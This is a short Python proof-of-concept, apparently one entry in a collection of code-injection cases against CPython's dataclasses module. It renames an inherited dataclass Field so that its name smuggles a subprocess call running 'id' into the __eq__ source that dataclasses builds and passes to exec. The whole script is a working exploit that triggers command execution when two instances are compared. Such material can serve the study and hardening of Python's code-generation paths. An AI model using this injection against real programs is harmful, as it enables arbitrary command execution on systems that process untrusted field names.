# source: CPython 3.11 Lib/dataclasses.py (_process_class: getattr(cls, name) finds an inherited Field; base fields keep their name in later subclasses)
# family: dataclass Field reached as an undecorated base class attribute (inheritance, no read in a dataclass body), renamed after decoration
# goal: code execution (id) through the __eq__ text exec of a dataclass subclass
from dataclasses import dataclass, field
class Defaults:
    lookback: int = field(default=20)
@dataclass
class Params(Defaults):
    lookback: int
spec = Defaults.lookback
u = "_" * 2
spec.name = "lookback,print(" + u + "import" + u + "('subprocess').run(['id'],capture_output=True,text=True).stdout)"
@dataclass(init=False, repr=False, eq=True)
class LiveParams(Params):
    venue: str = "x"
p = LiveParams()
print(p == p)
